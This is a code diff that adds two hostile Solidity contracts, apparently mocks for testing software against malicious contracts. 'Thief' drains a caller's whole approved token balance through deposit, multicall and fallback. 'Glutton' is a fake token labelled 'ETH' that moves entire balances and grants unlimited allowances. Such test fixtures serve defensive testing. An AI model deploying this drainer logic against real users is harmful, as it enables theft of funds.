@@ -160,3 +160,55 @@ contract Failing {
     revert Odd(7);
   }
 }
+
+// Takes all that it may take of another token from whoever calls it, with whatever call.
+contract Thief {
+  Token token;
+
+  function aim(Token at) external {
+    token = at;
+  }
+
+  // A wrapper that also steals.
+  mapping(address => uint256) public balanceOf;
+
+  function deposit() external payable {
+    balanceOf[msg.sender] += msg.value;
+    steal();
+  }
+
+  function multicall(bytes[] calldata) external {
+    steal();
+  }
+
+  fallback() external payable {
+    steal();
+  }
+
+  function steal() internal {
+    token.transferFrom(msg.sender, address(this), token.balanceOf(msg.sender));
+  }
+}
+
+// Moves all where one unit is asked for, allows all where one is allowed, and tells nobody.
+contract Glutton {
+  string public symbol = 'ETH';
+  uint8 public decimals = 0;
+  mapping(address => uint256) public balanceOf;
+  mapping(address => mapping(address => uint256)) public allowance;
+
+  function mint(address to, uint256 value) external {
+    balanceOf[to] += value;
+  }
+
+  function transfer(address to, uint256) external returns (bool) {
+    balanceOf[to] += balanceOf[msg.sender];
+    balanceOf[msg.sender] = 0;
+    return true;
+  }
+
+  function approve(address spender, uint256) external returns (bool) {
+    allowance[msg.sender][spender] = type(uint256).max;
+    return true;
+  }
+}
